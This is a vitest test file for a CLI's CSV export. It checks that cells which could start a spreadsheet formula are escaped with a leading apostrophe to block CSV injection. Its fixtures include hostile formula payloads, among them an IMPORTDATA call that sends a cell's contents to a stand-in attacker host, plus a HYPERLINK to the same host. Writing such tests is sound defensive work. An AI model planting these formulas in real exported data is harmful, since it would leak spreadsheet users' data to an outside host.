import { rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvLine } from '../../src/cli/output/table';
import { cli, tempDir } from './helpers/run';

/**
 * `--format csv` output is opened in spreadsheets, so text taken from the data that would start
 * a formula is neutralised with a leading apostrophe (OWASP CSV injection); numbers stay numbers.
 */
let dir = '';
beforeAll(async () => {
  dir = await tempDir('cx-csv-injection-');
});
afterAll(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('csvLine', () => {
  it('prefixes text starting with = + - @, tab or CR; keeps numbers, negative ones and number text', () => {
    expect(csvLine(['=IMPORTDATA("https://evil.example/?d="&A1)', '+1+cmd', '-2+3', '@SUM(A1)', '\tx', '\rx', 'Store'])).toBe(
      `"'=IMPORTDATA(""https://evil.example/?d=""&A1)",'+1+cmd,'-2+3,'@SUM(A1),'\tx,"'\rx",Store\n`,
    );
    expect(csvLine([-3.5, '-5', '+2', -0, null, true])).toBe('-3.5,-5,+2,0,,true\n');
  });
});

describe('cx-metrics metrics --by --format csv', () => {
  it('writes a hostile group name as text a spreadsheet will not run', async () => {
    const path = join(dir, 'survey.csv');
    const rows = ['Timestamp,How likely are you to recommend us to a friend?,Channel'];
    const channels = ['=HYPERLINK("https://evil.example","click")', '@SUM(1)', 'Store'];
    for (let i = 0; i < 30; i++) rows.push(`2026-10-${String((i % 28) + 1).padStart(2, '0')},${i % 11},"${channels[i % 3]!.replace(/"/g, '""')}"`);
    await writeFile(path, rows.join('\n') + '\n');
    const { code, stdout, stderr } = await cli(['metrics', path, '--period', '2026-10', '--by', 'Channel', '--format', 'csv']);
    expect(stderr).toBe('');
    expect(code).toBe(0);
    const groups = stdout.split('\n').slice(1).filter(Boolean).map((line) => line.split(',')[0]);
    expect(groups).toContain(`"'=HYPERLINK(""https://evil.example""`);
    expect(groups).toContain("'@SUM(1)");
    expect(groups).toContain('Store');
    expect(stdout).not.toMatch(/^"?[=+@]/m);
  });
});
